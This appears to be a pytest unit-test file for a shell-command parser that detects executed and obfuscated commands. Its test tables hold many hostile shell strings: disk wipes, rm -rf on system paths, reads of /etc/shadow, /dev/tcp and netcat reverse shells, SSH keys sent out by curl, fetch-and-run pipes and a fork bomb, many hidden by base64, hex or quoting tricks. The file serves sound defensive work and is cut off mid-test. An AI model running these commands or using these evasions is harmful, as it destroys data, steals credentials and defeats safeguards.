"""Unit tests for shield.parse: every executed command is found, obfuscation is seen through.

Each case names the evasion family it covers (the technique table of the corpus README);
commands are written for these tests, not copied from the corpus.
"""

from __future__ import annotations

import base64
import gzip
import threading

import pytest

from shield.model import ParseResult, SimpleCommand
from shield.parse import parse

pytestmark = pytest.mark.unit


def _argvs(result: ParseResult) -> list[list[str]]:
    return [c.argv for c in result.commands]


def _find(result: ParseResult, name: str, *args: str) -> SimpleCommand:
    """The first emitted command called ``name`` whose args start with ``args``."""
    for command in result.commands:
        if command.name == name and command.args[: len(args)] == list(args):
            return command
    raise AssertionError(f"no {name} {list(args)} in {_argvs(result)}")


def _has(result: ParseResult, name: str, *args: str) -> bool:
    return any(c.name == name and all(a in c.args for a in args) for c in result.commands)


# (test id, command, the argv that must be emitted, an obfuscation label it must carry or None)
EXECUTED = [
    # structure
    ("simple", "ls -la src", ["ls", "-la", "src"], None),
    ("pipeline_stage", "cat notes.txt | sort | uniq -c", ["uniq", "-c"], None),
    ("and_list", "make test && rm -rf /opt/app", ["rm", "-rf", "/opt/app"], None),
    ("or_list", "true || shred -u /etc/passwd", ["shred", "-u", "/etc/passwd"], None),
    ("background", "sleep 1 & nc -l 4444", ["nc", "-l", "4444"], None),
    ("newline_chaining", "git status\n\nrm -rf /srv", ["rm", "-rf", "/srv"], None),
    ("subshell", "(cd /tmp; rm -rf /var/www)", ["rm", "-rf", "/var/www"], None),
    ("group", "{ echo hi; mkfs.ext4 /dev/sdc; }", ["mkfs.ext4", "/dev/sdc"], None),
    ("if_body", "if [ -d /x ]; then rm -rf /x; fi", ["rm", "-rf", "/x"], None),
    ("if_condition", "if curl -s http://a.example; then :; fi", ["curl", "-s", "http://a.example"], None),
    ("while_body", "while true; do kill -9 1; done", ["kill", "-9", "1"], None),
    ("for_body", "for d in /etc /var; do rm -rf $d; done", ["rm", "-rf", "/var"], "var_indirection"),
    (
        "case_body",
        "case $1 in go) dd if=/dev/zero of=/dev/sda;; esac",
        ["dd", "if=/dev/zero", "of=/dev/sda"],
        None,
    ),
    ("test_substitution", "[[ -n $(id -u) ]] && echo ok", ["id", "-u"], None),
    # substitutions
    ("command_substitution_arg", "echo $(cat /etc/shadow)", ["cat", "/etc/shadow"], None),
    ("backticks", "echo `whoami`", ["whoami"], None),
    (
        "command_substitution_name",
        "$(printf mk)fs.ext4 /dev/sdd",
        ["mkfs.ext4", "/dev/sdd"],
        "command_substitution",
    ),
    ("nested_backticks", "echo `echo \\`id\\``", ["id"], None),
    ("process_substitution_in", "diff <(ls /a) <(ls /b)", ["ls", "/b"], None),
    ("process_substitution_out", "tee >(nc 192.0.2.1 9) < /etc/hosts", ["nc", "192.0.2.1", "9"], None),
    # nested shells
    ("sh_c", "sh -c 'userdel -r bob'", ["userdel", "-r", "bob"], None),
    ("bash_lc", 'bash -lc "chmod 777 /etc/sudoers"', ["chmod", "777", "/etc/sudoers"], None),
    ("zsh_c_positional", "zsh -c 'rm -rf \"$1\"' x /home/bob", ["rm", "-rf", "/home/bob"], None),
    ("su_c", "su - root -c 'passwd -d root'", ["passwd", "-d", "root"], None),
    ("eval", "eval 'crontab -r'", ["crontab", "-r"], None),
    ("eval_quoting", 'eval "cr""ontab -r"', ["crontab", "-r"], None),
    ("heredoc_to_shell", "bash <<'EOF'\nwipefs -a /dev/sdb\nEOF", ["wipefs", "-a", "/dev/sdb"], None),
    ("heredoc_dash", "sh <<-END\n\tuserdel eve\n\tEND", ["userdel", "eve"], None),
    ("heredoc_backslash_body", "sh <<'EOF'\n\\userdel eve\nEOF", ["userdel", "eve"], "backslash_escape"),
    ("heredoc_pipe_to_shell", "cat <<EOF | sh\nuserdel eve\nEOF", ["userdel", "eve"], None),
    ("here_string", "sh <<< 'killall -9 sshd'", ["killall", "-9", "sshd"], None),
    ("here_string_ansi_c", "bash <<< $'\\x72\\x6d -rf /boot'", ["rm", "-rf", "/boot"], "ansi_c"),
    ("kubectl_exec", "kubectl exec -n prod web-0 -- sh -c 'rm -rf /data'", ["rm", "-rf", "/data"], None),
    ("docker_exec", "docker exec -it db psql -c 'DROP TABLE x'", ["psql", "-c", "DROP TABLE x"], None),
    ("docker_run", "docker run --rm -v /:/host alpine chroot /host sh", ["chroot", "/host", "sh"], None),
    ("ssh_remote", "ssh -p 2222 admin@db.example 'sudo reboot'", ["reboot"], None),
    (
        "ssh_options_after_host",
        "ssh bastion -N -L 5432:db:5432",
        ["ssh", "bastion", "-N", "-L", "5432:db:5432"],
        None,
    ),
    # wrappers
    ("sudo", "sudo -u root -E rm -rf /etc", ["rm", "-rf", "/etc"], None),
    ("doas", "doas -u root mkfs /dev/sda", ["mkfs", "/dev/sda"], None),
    ("env", "env -i PATH=/bin FOO=1 rm -rf /usr", ["rm", "-rf", "/usr"], None),
    ("env_split", "env -S 'rm -rf /lib'", ["rm", "-rf", "/lib"], None),
    ("nice", "nice -n 10 shred /dev/sdb", ["shred", "/dev/sdb"], None),
    ("ionice", "ionice -c 3 dd if=/dev/urandom of=/dev/sdb", ["dd", "if=/dev/urandom", "of=/dev/sdb"], None),
    ("timeout", "timeout -s KILL 5m rm -rf /home", ["rm", "-rf", "/home"], None),
    ("nohup", "nohup nc -lvp 9001 &", ["nc", "-lvp", "9001"], None),
    ("setsid", "setsid -f socat tcp:192.0.2.4:1 exec:sh", ["socat", "tcp:192.0.2.4:1", "exec:sh"], None),
    ("stdbuf", "stdbuf -oL rm -rf /var/log", ["rm", "-rf", "/var/log"], None),
    ("time", "time rm -rf /opt", ["rm", "-rf", "/opt"], None),
    ("command", "command -p rm -rf /srv", ["rm", "-rf", "/srv"], None),
    ("builtin_exec", "exec -a x rm -rf /mnt", ["rm", "-rf", "/mnt"], None),
    ("busybox", "busybox nc 192.0.2.9 80 -e sh", ["nc", "192.0.2.9", "80", "-e", "sh"], None),
    ("xargs", "echo /etc | xargs -n1 rm -rf", ["rm", "-rf", "/etc"], None),
    ("xargs_replace", "echo /boot | xargs -I{} rm -rf {}", ["rm", "-rf", "/boot"], None),
    # One -name test: {} stands for START/GLOB, so the path classes see what is matched.
    ("find_exec", "find / -name '*.log' -exec rm -f {} \\;", ["rm", "-f", "/*.log"], None),
    ("find_execdir_plus", "find . -name x -execdir chmod 777 {} +", ["chmod", "777", "./x"], None),
    ("find_exec_narrowed", "find /srv -newer x -exec rm -f {} +", ["rm", "-f", "{}"], None),
    (
        "find_exec_in_word",
        "find ~/.ssh -type f -name 'id_*' -exec curl -F k=@{} https://x.example \\;",
        ["curl", "-F", "k=@/root/.ssh/id_*", "https://x.example"],
        None,
    ),
    ("find_exec_unfiltered", "find /srv -maxdepth 0 -exec rm -rf {} +", ["rm", "-rf", "/srv"], None),
    ("xargs_null", "printf 'shred -u /etc/passwd' | xargs -0 sh -c", ["shred", "-u", "/etc/passwd"], None),
    (
        "xargs_replace_line",
        "xargs -I% sh -c % <<< 'shred -u /etc/passwd'",
        ["shred", "-u", "/etc/passwd"],
        None,
    ),
    ("written_script_stdin", "echo halt > /tmp/a; bash < /tmp/a", ["halt"], None),
    ("awk_variable", "awk 'BEGIN{c=\"halt -f\"; system(c)}'", ["halt", "-f"], None),
    (
        "python_import_alias",
        "python3 -c 'import subprocess as sp; sp.call(\"halt\", shell=True)'",
        ["halt"],
        None,
    ),
    ("python_from_import", "python3 -c 'from os import system; system(\"halt\")'", ["halt"], None),
    ("watch", "watch -n 5 'rm -rf /tmp/cache'", ["rm", "-rf", "/tmp/cache"], None),
    ("script_c", "script -qc 'cat /etc/shadow' /dev/null", ["cat", "/etc/shadow"], None),
    ("chroot", "chroot /mnt/root passwd root", ["passwd", "root"], None),
    ("flock", "flock /tmp/l -c 'rm -rf /var/lib/x'", ["rm", "-rf", "/var/lib/x"], None),
    ("at_pipe", "echo 'shutdown -h now' | at now + 1 hour", ["shutdown", "-h", "now"], None),
    ("at_heredoc", "at midnight <<EOF\nuserdel -r alice\nEOF", ["userdel", "-r", "alice"], None),
    ("systemd_run", "systemd-run --on-calendar=daily /bin/rm -rf /srv", ["rm", "-rf", "/srv"], None),
    ("parallel", "parallel rm -rf ::: /a /b", ["rm", "-rf"], None),
    ("trap", "trap 'rm -rf /home/u' EXIT", ["rm", "-rf", "/home/u"], None),
    # interpreters
    ("python_os_system", "python3 -c 'import os; os.system(\"halt -f\")'", ["halt", "-f"], None),
    (
        "python_subprocess_list",
        'python -c \'import subprocess; subprocess.run(["rm", "-rf", "/x"])\'',
        ["rm", "-rf", "/x"],
        None,
    ),
    ("perl_system", "perl -e 'system(\"iptables -F\")'", ["iptables", "-F"], None),
    ("perl_backticks", "perl -e 'print `cat /etc/shadow`'", ["cat", "/etc/shadow"], None),
    ("ruby_system", "ruby -e 'system(\"setenforce 0\")'", ["setenforce", "0"], None),
    (
        "node_exec",
        'node -e \'require("child_process").execSync("rm -rf /app")\'',
        ["rm", "-rf", "/app"],
        None,
    ),
    ("php_system", "php -r 'system(\"id\");'", ["id"], None),
    ("awk_system", "awk 'BEGIN { system(\"chmod u+s /bin/bash\") }'", ["chmod", "u+s", "/bin/bash"], None),
    ("vim_bang", "vim -c ':!rm -rf /etc/nginx' -c ':q'", ["rm", "-rf", "/etc/nginx"], None),
    ("tar_to_command", "tar xf a.tar --to-command='sh -c \"rm -rf /x\"'", ["rm", "-rf", "/x"], None),
    (
        "tar_checkpoint",
        "tar cf x.tar . --checkpoint=1 --checkpoint-action=exec='nc 192.0.2.2 1'",
        ["nc", "192.0.2.2", "1"],
        None,
    ),
    ("git_pager", "git -c core.pager='rm -rf /repo' log", ["rm", "-rf", "/repo"], None),
    ("git_upload_pack", "git clone --upload-pack='touch /tmp/pwn' x y", ["touch", "/tmp/pwn"], None),
    ("sed_e", "sed -n '1e id' /etc/hosts", ["id"], None),
    ("ssh_proxycommand", "ssh -o ProxyCommand='nc 192.0.2.5 22' host", ["nc", "192.0.2.5", "22"], None),
    ("git_ssh_command_env", "GIT_SSH_COMMAND='rm -rf /y' git fetch", ["rm", "-rf", "/y"], None),
    # name tricks
    ("absolute_path", "/usr/bin/shred -u notes", ["shred", "-u", "notes"], "absolute_path"),
    ("relative_path", "./../../bin/rm -rf /opt", ["rm", "-rf", "/opt"], "absolute_path"),
    ("project_script", "./gradlew build", ["gradlew", "build"], None),
    ("quoting_empty", "sh''red /dev/sda", ["shred", "/dev/sda"], "quoting"),
    ("quoting_double", '"mk"fs /dev/sda', ["mkfs", "/dev/sda"], "quoting"),
    ("backslash_escape", "\\shred /dev/sda", ["shred", "/dev/sda"], "backslash_escape"),
    ("backslash_inside", "s\\hr\\ed /dev/sda", ["shred", "/dev/sda"], "backslash_escape"),
    ("brace_expansion_command", "{shred,-u,/etc/passwd}", ["shred", "-u", "/etc/passwd"], "brace_expansion"),
    ("brace_expansion_arg", "cat /etc/{passwd,shadow}", ["cat", "/etc/passwd", "/etc/shadow"], None),
    ("glob_path", "/???/s?red -u /etc/group", ["shred", "-u", "/etc/group"], "glob_path"),
    ("glob_bracket", "/bin/r[m] -rf /etc", ["rm", "-rf", "/etc"], "glob_path"),
    ("ifs", "shred${IFS}-u${IFS}/etc/passwd", ["shred", "-u", "/etc/passwd"], "ifs_substitution"),
    ("ansi_c_name", "$'\\x73\\x68\\x72\\x65\\x64' /dev/sdb", ["shred", "/dev/sdb"], "ansi_c"),
    # variables
    ("var_name", "x=shred; $x /dev/sda", ["shred", "/dev/sda"], "var_indirection"),
    ("var_braced", "t=/etc; rm -rf ${t}", ["rm", "-rf", "/etc"], "var_indirection"),
    ("var_split", "o='-rf /'; rm $o", ["rm", "-rf", "/"], "var_indirection"),
    ("var_prefix_env", "D=/var/lib env | grep x; rm -rf $D", ["rm", "-rf", "$D"], None),
    ("array", 'c=(shred -u /etc/shadow); "${c[@]}"', ["shred", "-u", "/etc/shadow"], "var_indirection"),
    ("array_element", "a=(ls rm); ${a[1]} -rf /etc", ["rm", "-rf", "/etc"], "var_indirection"),
    ("nameref", "declare -n r=v; v=shred; $r /dev/sda", ["shred", "/dev/sda"], "var_indirection"),
    ("indirect", "v=rm; p=v; ${!p} -rf /etc", ["rm", "-rf", "/etc"], "var_indirection"),
    ("set_positional", 'set -- rm -rf /usr; "$@"', ["rm", "-rf", "/usr"], "var_indirection"),
    ("export", "export T=/boot; rm -rf $T", ["rm", "-rf", "/boot"], "var_indirection"),
    ("printf_v", "printf -v c '%s' shred; $c /dev/sda", ["shred", "/dev/sda"], "var_indirection"),
    ("default_value", "rm -rf ${UNSET:-/etc}", ["rm", "-rf", "/etc"], "env_expansion"),
    ("substring", "rm -rf ${PATH:0:1}", ["rm", "-rf", "/"], "env_expansion"),
    ("pattern_removal", "p=/etc/x; rm -rf ${p%/x}", ["rm", "-rf", "/etc"], None),
    ("replacement", "p=rX; ${p/X/m} -rf /etc", ["rm", "-rf", "/etc"], None),
    ("alias", "alias ll='shred -u'; ll /etc/passwd", ["shred", "-u", "/etc/passwd"], "alias"),
    ("function_call", 'wipe() { rm -rf "$1"; }; wipe /srv', ["rm", "-rf", "/srv"], "function_definition"),
    ("function_keyword", "function w { mkfs /dev/sda; }; w", ["mkfs", "/dev/sda"], "function_definition"),
    # paths
    ("tilde", "rm -rf ~", ["rm", "-rf", "/root"], None),
    ("tilde_user", "rm -rf ~alice/data", ["rm", "-rf", "/home/alice/data"], "tilde_user"),
    # Service accounts live where their packages put them: ~postgres is the database cluster.
    ("tilde_service", "rm -rf ~postgres/16/main", ["rm", "-rf", "/var/lib/postgresql/16/main"], "tilde_user"),
    ("tilde_root", "rm -rf ~root", ["rm", "-rf", "/root"], "tilde_user"),
    ("home_var", 'rm -rf "$HOME"/', ["rm", "-rf", "/root"], None),
    ("home_braced", "rm -rf ${HOME}/.ssh", ["rm", "-rf", "/root/.ssh"], None),
    ("dotdot_absolute", "rm -rf /var/../etc", ["rm", "-rf", "/etc"], "path_traversal"),
    ("dotdot_relative", "rm -rf build/../../../x", ["rm", "-rf", "../../x"], "path_traversal"),
    ("dotdot_sibling", "ln -s ../shared/a.yaml a.yaml", ["ln", "-s", "../shared/a.yaml", "a.yaml"], None),
    ("double_slash", "rm -rf //etc//", ["rm", "-rf", "/etc"], None),
    ("cd_wildcard", "cd /etc && rm -rf *", ["rm", "-rf", "/etc/*"], "wildcard"),
    ("wildcard_root", "rm -rf /*", ["rm", "-rf", "/*"], "wildcard"),
    ("wildcard_system_dir", "rm -rf /home/*", ["rm", "-rf", "/home/*"], "wildcard"),
    ("glob_in_project", "rm -f build/*.o", ["rm", "-f", "build/*.o"], None),
    ("long_options", "rm --recursive --force /", ["rm", "--recursive", "--force", "/"], None),
    ("redirect_fd_tcp", "x=/dev/tcp/192.0.2.7/9; bash -i >& $x 0>&1", ["bash", "-i"], None),
    # later additions: state the parser tracks across statements
    ("custom_ifs", "IFS=,; c=shred,-u,/etc/passwd; $c", ["shred", "-u", "/etc/passwd"], "var_indirection"),
    (
        "read_here_string",
        "read a b <<< 'shred -u'; $a $b /etc/shadow",
        ["shred", "-u", "/etc/shadow"],
        "var_indirection",
    ),
    ("written_script_run", "echo 'halt -p' > /tmp/s.sh; chmod +x /tmp/s.sh; /tmp/s.sh", ["halt", "-p"], None),
    ("written_script_sh", "printf 'init 6\\n' > x.sh && sh x.sh", ["init", "6"], None),
    ("written_script_tee", "echo reboot | tee /tmp/r.sh >/dev/null; bash /tmp/r.sh", ["reboot"], None),
    (
        "written_script_source",
        "echo {} | base64 -d > /tmp/p; . /tmp/p".format("aGFsdCAtZg=="),
        ["halt", "-f"],
        "base64",
    ),
    ("sudo_s_stdin", "sudo -s <<< 'passwd -d root'", ["passwd", "-d", "root"], None),
    ("sudo_env_assignment", "sudo LD_PRELOAD=/tmp/x.so apache2", ["apache2"], None),
    ("empty_expansion", "sh${NOPE}red /dev/sda", ["shred", "/dev/sda"], "empty_expansion"),
    ("empty_command_substitution", "r$()m -rf /etc", ["rm", "-rf", "/etc"], None),
    ("sed_decoder", "echo 'hXlt' | sed 's/X/a/' | sh", ["halt"], "sed"),
    ("python_heredoc", "python3 - <<'EOF'\nimport os\nos.system('halt')\nEOF", ["halt"], None),
    (
        "python_exec_base64",
        "python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaGFsdCcp'))\"",
        ["halt"],
        "base64",
    ),
    (
        "perl_decode_base64",
        "perl -MMIME::Base64 -e 'system(decode_base64(\"aGFsdA==\"))'",
        ["halt"],
        "base64",
    ),
    (
        "node_buffer_base64",
        "node -e \"require('child_process').execSync(Buffer.from('aGFsdA==','base64')+'')\"",
        ["halt"],
        "base64",
    ),
    ("perl_bare_exec", "perl -e 'exec \"/bin/sh\"'", ["sh"], None),
    ("lua_execute", "lua -e \"os.execute('halt')\"", ["halt"], None),
    ("apt_pre_invoke", "apt-get update -o APT::Update::Pre-Invoke::=/bin/sh", ["sh"], None),
    ("ssh_stdin_shell", "ssh host bash -s <<< 'halt'", ["halt"], None),
    ("docker_stdin_shell", "docker exec -i web sh <<< 'halt'", ["halt"], None),
    ("pushd_wildcard", "pushd /etc; rm -rf *", ["rm", "-rf", "/etc/*"], "wildcard"),
    ("unset_histfile", "unset HISTFILE", ["unset", "HISTFILE"], None),
    ("export_histsize", "export HISTSIZE=0", ["export", "HISTSIZE=0"], None),
]


@pytest.mark.parametrize("command, argv, label", [c[1:] for c in EXECUTED], ids=[c[0] for c in EXECUTED])
def test_parse_finds_executed_command(command: str, argv: list[str], label: str | None) -> None:
    result = parse(command)
    assert argv in _argvs(result), _argvs(result)
    if label is not None:
        found = next(c for c in result.commands if c.argv == argv)
        assert label in found.obfuscation, found.obfuscation


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


DECODED = [
    (
        "base64_pipe",
        "echo {} | base64 -d | sh".format(_b64("userdel -r bob")),
        ["userdel", "-r", "bob"],
        "base64",
    ),
    ("base64_long_option", "echo {} | base64 --decode | bash".format(_b64("halt")), ["halt"], "base64"),
    (
        "base64_here_string",
        "base64 -d <<< {} | bash".format(_b64("chattr +i /etc/passwd")),
        ["chattr", "+i", "/etc/passwd"],
        "base64",
    ),
    (
        "base64_bash_c",
        'bash -c "$(echo {} | base64 -d)"'.format(_b64("crontab -r")),
        ["crontab", "-r"],
        "base64",
    ),
    (
        "base64_eval",
        'eval "$(echo {} | base64 --decode)"'.format(_b64("iptables -F")),
        ["iptables", "-F"],
        "base64",
    ),
    (
        "base64_here_string_subst",
        "bash <<< $(base64 -d <<< {})".format(_b64("setenforce 0")),
        ["setenforce", "0"],
        "base64",
    ),
    ("base64_openssl", "echo {} | openssl base64 -d | sh".format(_b64("halt -p")), ["halt", "-p"], "base64"),
    (
        "base64_python",
        "python3 -c \"import os,base64;os.system(base64.b64decode('{}'))\"".format(_b64("reboot -f")),
        ["reboot", "-f"],
        "base64",
    ),
    ("hex_xxd", "echo {} | xxd -r -p | sh".format(b"halt -f".hex()), ["halt", "-f"], "hex"),
    ("hex_perl_pack", 'perl -e \'system(pack("H*","{}"))\''.format(b"reboot".hex()), ["reboot"], "hex"),
    (
        "hex_perl_print_pipe",
        'perl -e \'print pack("H*","{}")\' | sh'.format(b"init 0".hex()),
        ["init", "0"],
        "hex",
    ),
    ("printf_hex", "printf '\\x68\\x61\\x6c\\x74' | sh", ["halt"], "printf"),
    ("printf_b_octal", "printf '%b' '\\150\\141\\154\\164' | sh", ["halt"], "printf"),
    ("printf_b_zero_octal", "printf '%b' '\\0150\\0141\\0154\\0164' | sh", ["halt"], "printf"),
    ("printf_octal", "printf '\\150\\141\\154\\164' | bash", ["halt"], "printf"),
    ("echo_e_hex", "echo -e '\\x68\\x61\\x6c\\x74' | sh", ["halt"], "printf"),
    ("printf_substitution_name", "$(printf '\\x68\\x61\\x6c\\x74') -f", ["halt", "-f"], "printf"),
    ("rot13_tr", "echo 'unyg -s' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", ["halt", "-f"], "rot13"),
    ("rev", "echo 'f- tlah' | rev | sh", ["halt", "-f"], "rev"),
    (
        "gzip_base64",
        "echo {} | base64 -d | gunzip | sh".format(base64.b64encode(gzip.compress(b"halt -f")).decode()),
        ["halt", "-f"],
        "gzip",
    ),
    (
        "zcat_base64",
        "echo {} | base64 -d | zcat | bash".format(base64.b64encode(gzip.compress(b"reboot")).decode()),
        ["reboot"],
        "gzip",
    ),
    (
        "process_substitution_decoded",
        "bash <(echo {} | base64 -d)".format(_b64("poweroff")),
        ["poweroff"],
        "base64",
    ),
]


@pytest.mark.parametrize("command, argv, label", [c[1:] for c in DECODED], ids=[c[0] for c in DECODED])
def test_parse_decodes_payloads_fed_to_a_shell(command: str, argv: list[str], label: str) -> None:
    result = parse(command)
    found = [c for c in result.commands if c.argv == argv]
    assert found, _argvs(result)
    assert label in found[0].obfuscation


def test_parse_base64_only_printed_is_not_executed() -> None:
    result = parse("echo {} | base64 -d".format(_b64("rm -rf /")))
    assert [c.name for c in result.commands] == ["echo", "base64"]
    assert "rm" not in result.normalized


def test_parse_decoded_payload_origin_names_the_decoder() -> None:
    result = parse("echo {} | base64 -d | sh".format(_b64("halt")))
    assert _find(result, "halt").origin == "base64"
    assert _find(result, "halt").wrappers == ["sh"]


MENTION_ONLY = [
    ("grep_pattern", 'grep -r "rm -rf" docs/', ["grep"]),
    ("echo_into_file", 'echo "rm -rf /" >> notes.md', ["echo"]),
    ("commit_message", 'git commit -m "drop table users; rm -rf /"', ["git"]),
    ("man_page", "man dd", ["man"]),
    ("printf_text", "printf 'mkfs\\n'", ["printf"]),
    ("test_name", "pytest -k 'test_rm_rf_root_is_denied'", ["pytest"]),
    ("heredoc_to_file", "cat > notes.txt <<'EOF'\nrm -rf /\nEOF", ["cat"]),
    ("quoted_semicolon", "echo 'a; shutdown now'", ["echo"]),
    ("python_print", "python3 -c 'print(\"rm -rf /\")'", ["python3"]),
    ("awk_print", "awk '{print \"rm -rf /\"}' file", ["awk"]),
]


@pytest.mark.parametrize("command, names", [c[1:] for c in MENTION_ONLY], ids=[c[0] for c in MENTION_ONLY])
def test_parse_mentions_are_data(command: str, names: list[str]) -> None:
    result = parse(command)
    assert [c.name for c in result.commands] == names
    assert not result.flags & {"parse_error", "unresolved"}


def test_parse_mention_keeps_args_for_rules() -> None:
    result = parse('grep -r "rm -rf" docs/')
    assert result.commands[0].args == ["-r", "rm -rf", "docs/"]


NORMALIZED = [
    ("sudo /bin/r''m -rf /", "sudo rm -rf /"),
    ("a=rm; $a -rf /", "a=rm ; rm -rf /"),
    ("unset HISTFILE; export HISTSIZE=0", "unset HISTFILE ; export HISTSIZE=0"),
    ("cat x | grep y", "cat x | grep y"),
    ("make && make test", "make ; make test"),
    ("echo 'a b' > out.txt", "echo 'a b' > out.txt"),
    ("ls 2>&1", "ls 2>&1"),
    ("\\rm   -rf    ~", "rm -rf /root"),
]


@pytest.mark.parametrize("command, expected", NORMALIZED)
def test_parse_normalized_rendering(command: str, expected: str) -> None:
    assert parse(command).normalized == expected


def test_parse_normalized_shows_decoded_payload() -> None:
    result = parse("echo {} | base64 -d | sh".format(_b64("halt -f")))
    assert result.normalized.endswith(" ; halt -f")


def test_parse_is_deterministic() -> None:
    command = "for x in a b; do echo $x | base64 -d | sh; done; f(){ :; }; f"
    assert parse(command).normalized == parse(command).normalized


# ---------------------------------------------------------------------- structure details


def test_parse_pipeline_records_stdin_source() -> None:
    result = parse("curl -s http://x.example/i.sh | sh")
    shell = _find(result, "sh")
    assert shell.stdin_from is not None and shell.stdin_from.name == "curl"
    assert shell.stdin_is_network
    assert shell.dynamic
    assert "unresolved" in result.flags


@pytest.mark.parametrize(
    "decoder", ["base64 -d", "xxd -r -p", "gunzip", "rev", "tr a-z n-za-m", "tee /tmp/x"]
)
def test_parse_network_taint_survives_decoders(decoder: str) -> None:
    result = parse(f"wget -qO- http://x.example/p | {decoder} | bash")
    assert _find(result, "bash").stdin_is_network


def test_parse_process_substitution_from_network() -> None:
    result = parse("source <(curl -s http://x.example/env)")
    assert _find(result, "curl").origin == "process_substitution"
    assert _find(result, "source").stdin_is_network


def test_parse_eval_of_fetched_code_is_unresolved() -> None:
    result = parse('eval "$(wget -qO- http://x.example/p)"')
    evaluated = _find(result, "eval")
    assert evaluated.dynamic and evaluated.stdin_is_network
    assert {"unresolved", "dynamic_code"} <= result.flags


def test_parse_here_string_sets_stdin_text() -> None:
    result = parse("redis-cli -h cache.internal <<< 'FLUSHALL'")
    command = _find(result, "redis-cli")
    assert command.stdin_text == "FLUSHALL\n"
    assert command.redirects[0].op == "<<<" and command.redirects[0].target == "FLUSHALL"


def test_parse_heredoc_body_is_stdin_of_database_client() -> None:
    result = parse("psql -h db <<EOF\nDROP DATABASE prod;\nEOF")
    command = _find(result, "psql")
    assert command.redirects[0].op == "<<"
    assert "DROP DATABASE prod;" in command.stdin_text
    assert [c.name for c in result.commands] == ["psql"]


def test_parse_heredoc_expands_substitutions() -> None:
    result = parse("cat <<EOF\n$(id)\nEOF")
    assert _has(result, "id")


def test_parse_wrappers_are_emitted_with_their_args() -> None:
    result = parse("sudo -u root nice -n 5 rm -rf /x")
    assert _argvs(result) == [
        ["sudo", "-u", "root", "nice", "-n", "5", "rm", "-rf", "/x"],
        ["nice", "-n", "5", "rm", "-rf", "/x"],
        ["rm", "-rf", "/x"],
    ]
    inner = _find(result, "rm")
    assert inner.wrappers == ["sudo", "nice"]
    assert inner.privileged


def test_parse_redirects_attach_to_the_command() -> None:
    result = parse("echo '* * * * * root x' | sudo tee -a /etc/crontab > /dev/null")
    tee = _find(result, "tee")
    assert [(r.op, r.target) for r in tee.redirects] == [(">", "/dev/null")]
    assert tee.stdin_text == "* * * * * root x\n"


@pytest.mark.parametrize(
    "command, op, target",
    [
        ("> ~/.python_history", ">", "/root/.python_history"),
        (">| /var/log/lastlog", ">|", "/var/log/lastlog"),
        ("cd /srv && >> notes.txt", ">>", "notes.txt"),
    ],
)
def test_parse_bare_redirection_is_a_null_command(command: str, op: str, target: str) -> None:
    # bash opens (and for > truncates) the file even though no program runs: rules must see it.
    result = parse(command)
    null = _find(result, ":")
    assert [(r.op, r.target) for r in null.redirects] == [(op, target)]


def test_parse_getent_home_lookup_resolves() -> None:
    result = parse('rm -r "$(getent passwd ci | cut -d: -f6)/.config"')
    assert ["rm", "-r", "/home/ci/.config"] in _argvs(result)
    assert not _find(result, "rm").dynamic


@pytest.mark.parametrize(
    "command, argv",
    [
        ("ls $(echo a:b:c | cut -d: -f2-3)", ["ls", "b:c"]),
        ("ls $(echo a,b,c,d | cut -d , -f 1,4)", ["ls", "a,d"]),
        ("ls $(echo nodelim | cut -d: -f2)", ["ls", "nodelim"]),
    ],
)
def test_parse_cut_fields_of_known_text(command: str, argv: list[str]) -> None:
    assert argv in _argvs(parse(command))


@pytest.mark.parametrize("command", ["ls $(cut -d: -f1 /etc/group)", "ls $(echo abc | cut -c2)"])
def test_parse_cut_of_unknown_text_stays_unknown(command: str) -> None:
    assert _find(parse(command), "ls").dynamic


def test_parse_redirect_descriptor_glued_to_next_redirect() -> None:
    result = parse("bash -i >& /dev/tcp/192.0.2.1/443 0>&1")
    bash = _find(result, "bash")
    assert bash.args == ["-i"]
    assert "/dev/tcp/192.0.2.1/443" in [r.target for r in bash.redirects]
    assert any(r.fd == 0 and r.target == "1" for r in bash.redirects)


def test_parse_background_marks_command() -> None:
    result = parse("nc -l 1234 & echo started")
    assert _find(result, "nc").background
    assert not _find(result, "echo").background


def test_parse_nohup_marks_background() -> None:
    assert _find(parse("nohup ./miner --pool x"), "miner").background


def test_parse_function_body_recorded() -> None:
    result = parse("f(){ rm -rf /x; }")
    assert "f" in result.functions
    # Never called by name: still judged once, as a function body.
    assert _find(result, "rm").origin == "function"


def test_parse_fork_bomb_is_recursive() -> None:
    result = parse(":(){ :|:& };:")
    assert "recursive_function" in result.flags
    assert sum(1 for c in result.commands if c.name == ":") >= 3


def test_parse_assignments_are_reported() -> None:
    result = parse("A=1; B=$A/x; echo $B")
    assert result.assignments == {"A": "1", "B": "1/x"}
    assert _find(result, "echo").args == ["1/x"]


def test_parse_unknown_variable_is_dynamic_not_safe() -> None:
    result = parse("rm -rf $TARGET/")
    command = _find(result, "rm")
    assert command.dynamic
    assert "unresolved" in result.flags
    assert command.args == ["-rf", "$TARGET/"]


def test_parse_unknown_command_name_is_dynamic_code() -> None:
    result = parse("$CMD -rf /")
    assert result.commands[0].dynamic
    assert "dynamic_code" in result.flags


def test_parse_cwd_resolves_relative_traversal() -> None:
    result = parse("rm -rf ../../..", cwd="/home/u/p")
    assert _find(result, "rm").args == ["-rf", "/"]
    assert _find(result, "rm").cwd == "/home/u/p"


def test_parse_home_argument_resolves_tilde() -> None:
    result = parse("rm -rf ~/.ssh $HOME", home="/home/dev")
    assert _find(result, "rm").args == ["-rf", "/home/dev/.ssh", "/home/dev"]


def test_parse_command_v_is_not_execution() -> None:
    result = parse("command -v rm")
    assert [c.name for c in result.commands] == ["command"]


def test_parse_xargs_gets_stdin_words() -> None:
    result = parse('xargs rm -rf <<< "/srv /opt"')
    assert _find(result, "rm").args == ["-rf", "/srv", "/opt"]
    assert _find(result, "rm").origin == "xargs"


def test_parse_find_exec_origin() -> None:
    result = parse("find /var -exec shred {} +")
    assert _find(result, "shred").origin == "find -exec"
    assert _find(result, "shred").wrappers == ["find"]


def test_parse_ssh_remote_origin() -> None:
    result = parse("ssh host 'rm -rf /srv'")
    assert _find(result, "rm").origin == "ssh"


def test_parse_alias_not_reexpanded_in_itself() -> None:
    result = parse("alias ls='ls; id'; ls")
    # The body is judged where it is defined (delayed: it runs whenever the name is typed)
    # and again where the alias is used; neither time is `ls` expanded inside itself.
    assert [(c.name, c.origin) for c in result.commands] == [
        ("alias", "top"),
        ("ls", "delayed"),
